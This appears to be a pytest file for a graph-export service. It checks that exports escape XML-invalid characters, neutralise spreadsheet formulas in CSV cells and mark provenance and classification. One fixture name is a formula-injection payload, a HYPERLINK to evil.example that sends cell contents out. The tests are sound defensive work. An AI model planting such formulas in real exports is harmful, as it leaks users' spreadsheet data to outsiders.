"""Exports of the link graph with awkward data, on both databases: text XML forbids, cells a spreadsheet would
run, and the provenance and classification marks every format carries."""

import csv
import io

import networkx as nx
import orjson
import pytest
from followthemoney import model
from lxml import etree

from nexus.model import Labels
from nexus.service.export_marks import csv_cell, xml_text
from nexus.service.links_export import export_graph

from test_links import LEAD, OPEN, POLICE, S, entity, load, person

ODD = "Ctl\u0001Char \ufffe Name"  # FtM drops the control character and keeps U+FFFE
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SPREADSHEET_STARTS = ("=", "+", "-", "@", "\t", "\r")
XML_FORMATS = ("graphml", "gexf", "anx")


@pytest.fixture
def awkward(store, tmp_path):
    """The terrorist t is family of z (an odd name) and of w (named only by a SECRET source), an associate of q (a
    name a spreadsheet would run) and shares a phone with q; a SECRET source's UnknownLink ties q to z."""
    load(store, tmp_path, "registry", OPEN, [
        person("t", "Tariq Terror", "crime.terror", phone="+44 20 7946 0001"),
        person("z", ODD), person("q", FORMULA, phone="+442079460001"),
        entity("f", "Family", person="z", relative="t"), entity("g", "Family", person="w", relative="t"),
        entity("a", "Associate", person="q", associate="t"),
    ])
    load(store, tmp_path, "intel", Labels("POLICE", S), [
        person("w", "@Wassim Secret"), entity("u", "UnknownLink", subject="q", object="z", role="handler"),
    ])
    return store


def export(store, viewer, tmp_path, fmt) -> bytes:
    out = io.BytesIO()
    export_graph(store, viewer, tmp_path / "home", fmt, out)
    return out.getvalue()


def csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode())))


def test_text_xml_forbids_is_replaced_and_spreadsheet_formulas_are_quoted():
    assert xml_text("a\x00b\x01c\x1f\ufffe\uffff\ud800 \t\n\r\x7f\U0001f600é") == "a\ufffdb\ufffdc" + "\ufffd" * 4 + \
        " \t\n\r\x7f\U0001f600é"
    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "a=b", "", None, -1.5)] == \
        ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "a=b", "", None, -1.5]


@pytest.mark.parametrize("fmt", XML_FORMATS)
def test_xml_exports_of_names_xml_forbids_are_written_whole_and_read_back(awkward, tmp_path, fmt):
    path = tmp_path / f"graph.{fmt}"
    path.write_bytes(export(awkward, LEAD, tmp_path, fmt))
    root = etree.parse(str(path)).getroot()
    if fmt == "anx":
        (item,) = [i for i in root.iter("ChartItem") if i.find("End/Entity[@EntityId='z']") is not None]
        assert item.get("Label") == "CtlChar \ufffd Name"
        return
    graph = nx.read_graphml(path) if fmt == "graphml" else nx.read_gexf(path)
    assert graph.nodes["z"]["name"] == "CtlChar \ufffd Name"
    assert graph.has_edge("q", "z") and graph.has_edge("t", "z")


def test_csv_cells_a_spreadsheet_would_run_are_quoted_in_every_text_column(awkward, tmp_path):
    rows = csv_rows(export(awkward, LEAD, tmp_path, "csv"))
    names = {r[end]: r[f"{end}_name"] for r in rows for end in ("source", "target")}
    assert (names["q"], names["w"], names["t"]) == ("'" + FORMULA, "'@Wassim Secret", "Tariq Terror")
    numeric = {"weight", "pieces", "shared_by", "amount"}
    assert not [v for r in rows for k, v in r.items() if k not in numeric and v.startswith(SPREADSHEET_STARTS)]


def test_ftm_export_marks_every_entity_with_its_provenance(awkward, tmp_path):
    lines = export(awkward, LEAD, tmp_path, "ftm").splitlines()
    entities = {e["id"]: e for e in map(orjson.loads, lines)}
    secret = entities["u"]  # the SECRET source's UnknownLink, as the store holds it
    assert (secret["schema"], secret["sources"], secret["agencies"], secret["classification"]) == (
        "UnknownLink", ["intel"], ["POLICE"], "SECRET")
    assert secret["first_seen"] <= secret["last_seen"]
    assert (entities["t"]["sources"], entities["t"]["classification"]) == (["registry"], "RESTRICTED")
    assert (entities["w"]["sources"], entities["w"]["classification"]) == (["intel"], "SECRET")
    (phone,) = [e for e in entities.values() if e["schema"] == "UnknownLink" and e["id"] != "u"]  # the shared phone
    assert (phone["sources"], phone["agencies"], phone["classification"]) == (["registry"], ["POLICE"], "RESTRICTED")
    assert phone["properties"]["publisher"] == ["registry"]
    assert all(e["classification"] in ("RESTRICTED", "SECRET") for e in entities.values())
    assert model.get_proxy(secret).to_dict() == secret  # FtM reads the marks as the entity's context, and keeps them


@pytest.mark.parametrize("viewer", [LEAD, POLICE], ids=["secret", "restricted"])
def test_every_format_marks_the_highest_classification_it_holds(awkward, tmp_path, viewer):
    highest = viewer.clearance.name  # the SECRET source is all a RESTRICTED viewer does not get
    path = tmp_path / "graph.graphml"
    path.write_bytes(export(awkward, viewer, tmp_path, "graphml"))
    graph = nx.read_graphml(path)
    assert graph.graph["classification"] == highest
    gexf = etree.fromstring(export(awkward, viewer, tmp_path, "gexf"))
    assert gexf.findtext("{http://gexf.net/1.3}meta/{http://gexf.net/1.3}description") == f"classification: {highest}"
    anx = etree.fromstring(export(awkward, viewer, tmp_path, "anx"))
    assert anx.xpath("Summary/CustomPropertyCollection/CustomProperty[@Name='classification']/@Value") == [highest]
    names = anx.xpath("AttributeClassCollection/AttributeClass/@Name")
    assert len(names) == len(set(names))
    rows = csv_rows(export(awkward, viewer, tmp_path, "csv"))
    assert max(r["classification"] for r in rows) == highest  # RESTRICTED < SECRET, also as text
    if viewer is LEAD:  # w is named by the SECRET source alone: its node, and a row naming it, are SECRET
        (family,) = graph.get_edge_data("w", "t").values()  # a multigraph: q and t have two ties
        assert graph.nodes["w"]["classification"] == "SECRET" and family["classification"] == "RESTRICTED"
        (family,) = [r for r in rows if {r["source"], r["target"]} == {"t", "w"}]
        assert family["classification"] == "SECRET"
